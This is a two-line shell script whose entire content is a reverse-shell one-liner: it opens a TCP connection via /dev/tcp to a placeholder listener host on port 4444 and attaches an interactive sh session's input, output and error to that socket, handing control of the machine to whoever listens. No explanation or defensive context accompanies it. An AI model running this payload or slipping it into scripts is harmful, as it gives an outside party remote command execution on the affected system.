#!/bin/sh
0<&196;exec 196<>/dev/tcp/listener.example.invalid/4444; sh <&196 >&196 2>&196
